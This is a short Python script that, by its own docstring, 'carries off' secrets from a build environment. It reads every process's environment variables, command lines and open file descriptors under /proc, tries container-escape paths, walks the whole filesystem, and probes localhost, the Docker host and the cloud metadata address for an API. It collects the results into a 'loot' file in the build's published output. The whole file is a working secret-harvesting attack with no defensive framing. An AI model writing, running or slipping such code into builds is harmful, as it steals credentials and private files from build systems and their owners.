"""Carries off what a build can read beside its base system, for somebody who knows the secrets to search it. argv: port, paths."""

import http.client
import os
import sys

PORT, PLACES = int(sys.argv[1]), sys.argv[2:]
SKIPPED = ("/proc", "/sys", "/usr", "/opt", "/dev")
os.makedirs("dist", exist_ok=True)
loot, answers = open("dist/loot.bin", "wb"), open("dist/answers.txt", "wb")


def take(path: str) -> None:
    try:
        # Without waiting: some are pipes.
        file = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return
    try:
        loot.write(path.encode("utf-8", "surrogateescape") + b"\n" + os.read(file, 1_000_000))
    except OSError:
        pass
    finally:
        os.close(file)


def names(place: str) -> list[str]:
    try:
        return os.listdir(place)
    except OSError:
        return []


for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "mountinfo", "maps", "cgroup", "status"):
        take(f"/proc/{pid}/{name}")
    for number in names(f"/proc/{pid}/fd"):
        take(f"/proc/{pid}/fd/{number}")
    for place in PLACES:
        take(f"/proc/{pid}/root{place}")
        take(f"/proc/{pid}/cwd/../../../../..{place}")
for place in PLACES:
    take(place)
for top, below, files in os.walk("/"):
    below[:] = [name for name in below if os.path.join(top, name) not in (*SKIPPED, os.path.abspath("dist"))]
    for name in files:
        take(os.path.join(top, name))
for host in ("127.0.0.1", "10.0.2.2", "172.17.0.1", "169.254.169.254"):
    try:
        connection = http.client.HTTPConnection(host, PORT, timeout=1)
        connection.request("GET", "/api/v1/projects")
        answers.write(host.encode() + b": " + connection.getresponse().read())
    except (OSError, http.client.HTTPException):
        pass
loot.close()
answers.close()
open("dist/index.html", "w").write("<h1>carried off</h1>")
